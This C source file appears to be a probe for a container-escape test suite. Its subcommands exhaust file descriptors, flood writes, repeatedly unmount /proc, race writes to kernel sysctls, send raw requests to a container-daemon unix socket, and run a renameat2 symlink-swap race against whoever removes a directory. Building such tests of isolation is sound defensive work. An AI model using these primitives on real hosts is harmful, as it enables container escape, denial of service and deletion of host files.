/* Escape-suite probe, run inside containers (static binary, bind-mounted read-only at /probe).
 * The test image has busybox only: no unix-socket client, no way to hold thousands of fds in one
 * process, no tight syscall loops. Each subcommand does one hostile thing and prints key=value lines.
 *
 *   hold PATH N          open PATH N times, read 1 byte from each, print "held=N", then wait for SIGKILL
 *   stat PATH N          stat PATH N times, print "stats=N errors=E"
 *   write PATH BYTES N   N writes of BYTES bytes ("1" then spaces) to PATH, one open each;
 *                        print "writes=N failed=F errno=LAST"
 *   umount PATH N [LEN]  umount2(PATH) N times (PATH padded with "/." up to LEN bytes, if given);
 *                        print "calls=N ok=O errno=LAST"
 *   sock PATH REQUEST    connect to the unix socket PATH, send REQUEST (\n turned into \r\n), print the answer
 *   soak SECONDS         for SECONDS, fork children that loop sysinfo(2), umount2("/proc") and a
 *                        write to /proc/sys/net/ipv4/ip_default_ttl and kernel/hostname, SIGKILL each
 *                        after a short while; then write ip_default_ttl=99 once; print "children=N"
 *   swap DIR TARGET N    in DIR, make N pairs: directory dI (with a file in it) and symlink sI -> TARGET; print
 *                        "pairs=N", then exchange each pair (renameat2 RENAME_EXCHANGE) in a loop until killed, so
 *                        that whoever removes DIR by name meets a symlink where it listed a directory
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysinfo.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int hold(const char *path, long n)
{
    long held = 0;
    char c;
    for (long i = 0; i < n; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) { printf("open-errno=%d\n", errno); break; }
        if (read(fd, &c, 1) < 0) printf("read-errno=%d\n", errno);
        held++;
    }
    printf("held=%ld\n", held);
    fflush(stdout);
    for (;;) pause();
    return 0;
}

static int do_stat(const char *path, long n)
{
    long errors = 0;
    struct stat st;
    for (long i = 0; i < n; i++)
        if (stat(path, &st) != 0) errors++;
    printf("stats=%ld errors=%ld\n", n, errors);
    return 0;
}

static int do_write(const char *path, long bytes, long n)
{
    char *buf = malloc(bytes);
    if (!buf) return 2;
    memset(buf, ' ', bytes);
    buf[0] = '1';
    long failed = 0;
    int last = 0;
    for (long i = 0; i < n; i++) {
        int fd = open(path, O_WRONLY);
        if (fd < 0) { failed++; last = errno; continue; }
        if (write(fd, buf, bytes) != bytes) { failed++; last = errno; }
        close(fd);
    }
    printf("writes=%ld failed=%ld errno=%d\n", n, failed, last);
    return 0;
}

static int do_umount(const char *path, long n, long len)
{
    char *p = malloc(len > 0 ? len + 8 : strlen(path) + 1);
    if (!p) return 2;
    strcpy(p, path);
    if (len > 0) {
        /* "/proc" + "/./././..." : the same mount, spelled long, so a log line carries the whole string. */
        size_t at = strlen(p);
        while ((long)at + 2 < len) { p[at++] = '/'; p[at++] = '.'; }
        p[at] = 0;
    }
    long ok = 0;
    int last = 0;
    for (long i = 0; i < n; i++) {
        if (umount2(p, 0) == 0) ok++;
        else last = errno;
    }
    printf("calls=%ld ok=%ld errno=%d\n", n, ok, last);
    return 0;
}

static int do_sock(const char *path, const char *request)
{
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = { .sun_family = AF_UNIX };
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    if (connect(fd, (struct sockaddr *)&a, sizeof a) != 0) { printf("connect-errno=%d\n", errno); return 1; }
    for (const char *c = request; *c; c++) {
        if (*c == '\n' && write(fd, "\r", 1) != 1) return 1;
        if (write(fd, c, 1) != 1) return 1;
    }
    /* No shutdown(SHUT_WR): dockerd takes a half-closed connection for a client that left and cancels the
     * request ("context canceled"). HTTP/1.0: the server closes the connection after its answer. */
    char buf[4096];
    ssize_t r;
    alarm(10);
    while ((r = read(fd, buf, sizeof buf)) > 0) fwrite(buf, 1, r, stdout);
    printf("\n");
    return 0;
}

static void write_file(const char *path, const char *s)
{
    int fd = open(path, O_WRONLY);
    if (fd >= 0) { if (write(fd, s, strlen(s)) < 0) {} close(fd); }
}

static int soak(long seconds)
{
    time_t end = time(NULL) + seconds;
    long children = 0;
    struct timespec pause_ns = { 0, 0 };
    srand(getpid());
    while (time(NULL) < end) {
        pid_t pid = fork();
        if (pid == 0) {
            struct sysinfo si;
            for (;;) {
                sysinfo(&si);
                umount2("/proc", 0);
                write_file("/proc/sys/net/ipv4/ip_default_ttl", "99");
                write_file("/proc/sys/kernel/hostname", "srt-soak");
            }
        }
        if (pid < 0) continue;
        children++;
        pause_ns.tv_nsec = (rand() % 2000) * 1000L; /* 0 to 2 ms */
        nanosleep(&pause_ns, NULL);
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
    }
    /* One authorised write that is never interrupted: the container's own value afterwards is known. */
    write_file("/proc/sys/net/ipv4/ip_default_ttl", "99");
    printf("children=%ld\n", children);
    return 0;
}

static int swap(const char *dir, const char *target, long n)
{
    char a[4096], b[4096];
    for (long i = 0; i < n; i++) {
        snprintf(a, sizeof a, "%s/d%ld", dir, i);
        snprintf(b, sizeof b, "%s/s%ld", dir, i);
        if (mkdir(a, 0777) != 0 && errno != EEXIST) { printf("mkdir-errno=%d\n", errno); return 1; }
        snprintf(b, sizeof b, "%s/d%ld/f", dir, i);
        close(open(b, O_CREAT | O_WRONLY, 0666));
        snprintf(b, sizeof b, "%s/s%ld", dir, i);
        if (symlink(target, b) != 0 && errno != EEXIST) { printf("symlink-errno=%d\n", errno); return 1; }
    }
    printf("pairs=%ld\n", n);
    fflush(stdout);
    int dfd = open(dir, O_RDONLY | O_DIRECTORY);
    if (dfd < 0) { printf("open-errno=%d\n", errno); return 1; }
    for (;;)
        for (long i = 0; i < n; i++) {
            snprintf(a, sizeof a, "d%ld", i);
            snprintf(b, sizeof b, "s%ld", i);
            syscall(SYS_renameat2, dfd, a, dfd, b, 2 /* RENAME_EXCHANGE */);
        }
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 4 && !strcmp(argv[1], "hold")) return hold(argv[2], atol(argv[3]));
    if (argc >= 4 && !strcmp(argv[1], "stat")) return do_stat(argv[2], atol(argv[3]));
    if (argc >= 5 && !strcmp(argv[1], "write")) return do_write(argv[2], atol(argv[3]), atol(argv[4]));
    if (argc >= 4 && !strcmp(argv[1], "umount")) return do_umount(argv[2], atol(argv[3]), argc >= 5 ? atol(argv[4]) : 0);
    if (argc >= 4 && !strcmp(argv[1], "sock")) return do_sock(argv[2], argv[3]);
    if (argc >= 3 && !strcmp(argv[1], "soak")) return soak(atol(argv[2]));
    if (argc >= 5 && !strcmp(argv[1], "swap")) return swap(argv[2], argv[3], atol(argv[4]));
    fprintf(stderr, "usage: probe hold|stat|write|umount|sock|soak|swap ...\n");
    return 2;
}
